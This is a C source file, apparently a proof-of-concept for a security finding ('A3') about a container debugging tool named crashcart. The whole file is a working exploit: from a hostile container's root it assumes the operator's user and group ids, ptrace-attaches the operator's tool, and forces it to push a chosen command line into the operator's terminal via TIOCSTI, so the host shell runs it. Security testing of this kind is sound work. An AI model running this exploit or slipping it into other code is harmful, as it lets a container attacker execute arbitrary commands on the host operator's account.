#define _GNU_SOURCE
/* ptrace-inject: a hostile container's root (finding A3). Becomes the
 * operator's uid and gid (container root keeps CAP_SETUID in Docker's
 * default set), PTRACE_ATTACHes the operator's tool running in the
 * container (same ids, dumpable: no capability needed), and makes the tool
 * itself call ioctl(FD, TIOCSTI, c) for each byte of LINE: on the
 * operator's terminal, the operator's host shell would run LINE after
 * crashcart returns. x86_64 only. Prints what each injected call returned.
 * usage: ptrace-inject UID GID PID FD LINE */
#include <errno.h>
#include <grp.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/ptrace.h>
#include <sys/syscall.h>
#include <sys/user.h>
#include <sys/wait.h>
#include <unistd.h>

int main(int argc, char **argv)
{
	if (argc != 6) {
		fprintf(stderr, "usage: ptrace-inject UID GID PID FD LINE\n");
		return 2;
	}
	uid_t uid = (uid_t)atoi(argv[1]);
	gid_t gid = (gid_t)atoi(argv[2]);
	pid_t pid = atoi(argv[3]);
	int fd = atoi(argv[4]);
	const char *line = argv[5];
	struct user_regs_struct saved, r;
	int st, pushed = 0, last = 0;

	if (setgroups(0, NULL) < 0 || setresgid(gid, gid, gid) < 0 || setresuid(uid, uid, uid) < 0) {
		perror("ptrace-inject: becoming the operator");
		return 2;
	}
	if (ptrace(PTRACE_ATTACH, pid, NULL, NULL) < 0) {
		printf("attach: %s\n", strerror(errno));
		return 3;
	}
	if (waitpid(pid, &st, __WALL) != pid || !WIFSTOPPED(st)) {
		printf("attach: no stop\n");
		return 3;
	}
	if (ptrace(PTRACE_GETREGS, pid, NULL, &saved) < 0) {
		printf("getregs: %s\n", strerror(errno));
		return 3;
	}
	/* Stopped in a syscall: the instruction before rip is `syscall`. */
	unsigned long sc = saved.rip - 2;
	errno = 0;
	long word = ptrace(PTRACE_PEEKTEXT, pid, (void *)sc, NULL);
	if (errno || (word & 0xffff) != 0x050f) {
		printf("no syscall instruction at rip-2\n");
		ptrace(PTRACE_DETACH, pid, NULL, NULL);
		return 3;
	}
	unsigned long buf = (saved.rsp - 512) & ~7UL; /* below the red zone */
	for (const char *p = line; *p; p++) {
		if (ptrace(PTRACE_POKEDATA, pid, (void *)buf, (void *)(long)(unsigned char)*p) < 0)
			break;
		r = saved;
		r.orig_rax = -1UL; /* no restart of the interrupted call */
		r.rax = SYS_ioctl;
		r.rdi = (unsigned long)fd;
		r.rsi = TIOCSTI;
		r.rdx = buf;
		r.rip = sc;
		if (ptrace(PTRACE_SETREGS, pid, NULL, &r) < 0 || ptrace(PTRACE_SINGLESTEP, pid, NULL, NULL) < 0)
			break;
		if (waitpid(pid, &st, __WALL) != pid || !WIFSTOPPED(st))
			break;
		if (ptrace(PTRACE_GETREGS, pid, NULL, &r) < 0)
			break;
		if ((long)r.rax == 0)
			pushed++;
		else
			last = (int)-(long)r.rax;
	}
	(void)ptrace(PTRACE_SETREGS, pid, NULL, &saved);
	(void)ptrace(PTRACE_DETACH, pid, NULL, NULL);
	printf("injected: %d of %zu bytes pushed%s%s\n", pushed, strlen(line), last ? ", " : "", last ? strerror(last) : "");
	return 0;
}
